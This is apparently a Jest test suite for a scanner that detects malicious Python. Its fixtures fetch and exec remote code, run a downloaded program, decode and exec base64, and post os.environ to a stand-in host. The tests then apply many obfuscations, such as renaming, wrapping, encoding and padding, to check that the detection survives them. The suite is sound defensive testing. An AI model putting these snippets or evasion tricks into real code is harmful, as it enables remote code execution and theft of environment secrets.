import { describe, expect, test } from '@jest/globals';
import { actsIn, base64, read } from './read.js';

// Findings that must survive every change that leaves the meaning alone.
const FINDINGS = [
  {
    name: 'decoded code',
    lines: ['import base64', `payload = base64.b64decode("${base64('print(1)')}")`, 'exec(payload)'],
    act: /^run-code<.*decoded/u,
  },
  {
    name: 'code from the network',
    lines: ['import requests', 'payload = requests.get("https://a.invalid/x").text', 'exec(payload)'],
    act: /^run-code<.*network/u,
  },
  {
    name: 'a downloaded program',
    lines: [
      'import requests, subprocess',
      'payload = requests.get("https://a.invalid/x").content',
      'open("/tmp/tool", "wb").write(payload)',
      'subprocess.Popen(["/tmp/tool"])',
    ],
    act: /^run-process<.*downloaded-file/u,
  },
  {
    name: 'the environment sent',
    lines: ['import os, requests', 'payload = dict(os.environ)', 'requests.post("https://a.invalid", json=payload)'],
    act: /^send<.*environment/u,
  },
] as const;

type Lines = readonly string[];

const indented = (lines: Lines): string => lines.map((line) => `    ${line}`).join('\n');

const CHANGES: readonly { name: string; change: (lines: Lines) => string }[] = [
  { name: 'as it is', change: (lines) => lines.join('\n') },
  { name: 'names changed', change: (lines) => lines.join('\n').replaceAll('payload', '_0x1f') },
  { name: 'inside a function', change: (lines) => `def f():\n${indented(lines)}\nf()` },
  {
    name: 'inside a method',
    change: (lines) => `class A:\n    def f(self):\n${lines.map((line) => `        ${line}`).join('\n')}\nA().f()`,
  },
  { name: 'inside try', change: (lines) => `try:\n${indented(lines)}\nexcept Exception:\n    pass` },
  { name: 'inside a branch', change: (lines) => `import sys\nif sys.platform == "win32":\n${indented(lines)}` },
  { name: 'inside a loop', change: (lines) => `while True:\n${indented(lines)}\n    break` },
  { name: 'on one line', change: (lines) => lines.join('; ') },
  {
    name: 'carried through names',
    change: (lines) =>
      lines
        .join('\n')
        .replace('payload =', 'first =')
        .replace(/\n(?=(?:exec|open|requests))/u, '\nsecond = first\npayload = second\n'),
  },
  {
    name: 'carried through a tuple',
    change: (lines) => lines.join('\n').replace(/payload = (?<value>.*)/u, 'payload, other = $<value>, 1'),
  },
  {
    name: 'carried through a list',
    change: (lines) => lines.join('\n').replace(/payload = (?<value>.*)/u, 'box = [$<value>]\npayload = box[0]'),
  },
  {
    name: 'carried through a dictionary',
    change: (lines) =>
      lines.join('\n').replace(/payload = (?<value>.*)/u, 'box = {}\nbox["k"] = $<value>\npayload = box["k"]'),
  },
  {
    name: 'carried through an attribute',
    change: (lines) =>
      lines
        .join('\n')
        .replace(/payload = (?<value>.*)/u, 'class Box: pass\nbox = Box()\nbox.v = $<value>\npayload = box.v'),
  },
  {
    name: 'carried through a function',
    change: (lines) =>
      lines.join('\n').replace(/payload = (?<value>.*)/u, 'def same(x):\n    return x\npayload = same($<value>)'),
  },
  {
    name: 'carried through a global',
    change: (lines) =>
      `${lines[0] ?? ''}\npayload = None\ndef fill():\n    global payload\n    ${lines[1] ?? ''}\ndef use():\n${indented(lines.slice(2))}\nfill()\nuse()`,
  },
  {
    name: 'imports renamed',
    change: (lines) =>
      lines
        .join('\n')
        .replace(/^import (?<names>.*)$/mu, (_, names: string) =>
          names
            .split(', ')
            .map((name) => `import ${name} as m_${name}`)
            .join('\n'),
        )
        .replaceAll(/\b(?=(?:base64|requests|subprocess|os)\.)/gu, 'm_'),
  },
  { name: 'blank and comment lines', change: (lines) => lines.join('\n\n# a comment\n\n') },
  { name: 'carriage returns', change: (lines) => lines.join('\r\n') },
  { name: 'as text that is run', change: (lines) => `exec(${JSON.stringify(lines.join('\n'))})` },
  {
    name: 'as text that is decoded and run',
    change: (lines) => `import base64\nexec(base64.b64decode("${base64(lines.join('\n'))}"))`,
  },
  {
    name: 'behind a lot of ordinary code',
    change: (lines) =>
      `${Array.from({ length: 300 }, (_, i) => `def g${i}(a, b=${i}):\n    return a + b\n`).join('\n')}\n${lines.join('\n')}`,
  },
];

describe.each(FINDINGS)('$name', ({ lines, act }) => {
  test.each(CHANGES)('$name', ({ change }) => {
    expect(actsIn(read(change(lines))).filter((each) => act.test(each))).not.toEqual([]);
  });
});
